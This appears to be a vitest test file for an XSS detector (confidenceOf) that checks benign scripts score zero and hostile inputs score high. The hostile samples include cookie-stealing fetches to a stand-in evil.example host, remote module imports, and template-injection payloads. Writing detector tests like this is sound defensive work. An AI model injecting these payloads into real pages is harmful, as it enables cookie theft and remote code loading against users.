import { expect, test } from 'vitest';
import { confidenceOf } from './xss-text.ts';

test.each([
  "<template><p>hello</p></template>\n<script>\nimport { names } from '../names';\nexport default { name: 'own', data() { return names(fetch); } };\n</script>",
  '<script>\n  export default {\n    name: "own",\n    mounted() { document.title = fetch(location); },\n  };\n</script>',
  '// Makes a <script> element; its change event is fired later.\nvar script = document.createElement("script");\nlist.map(setTimeout);',
  `// {{{\n${'/* keeps what was read */\n'.repeat(9)}function read() { eval(names); }\n// }}}\n// {{{\neval(others);\n// }}}`,
])('scripts and expressions that no browser takes run nothing: %j', (text) => {
  expect(confidenceOf(text)).toBe(0);
});

test.each([
  '<script type="module">\nimport { names } from "https://evil.example/x.js";\n</script>',
  '<script>/* import a from "b" */ fetch("//evil.example/"+document.cookie)</script>',
  '<script>import("https://evil.example/x.js")</script>',
  '<script>fetch("//evil.example/"+document.cookie);\n//import a from "b"\n</script>',
  '<script> element;fetch("//evil.example/"+document.cookie)</script>',
  "{{{a:'{'}|json}}{{constructor.constructor('alert(1)')()}}",
  "{{{a:/{/,b:constructor.constructor('alert(1)')()} }}",
  "{{ {a:'{'}, constructor.constructor('alert(1)')() }}",
])('others are found: %j', (text) => {
  expect(confidenceOf(text)).toBeGreaterThanOrEqual(0.5);
});
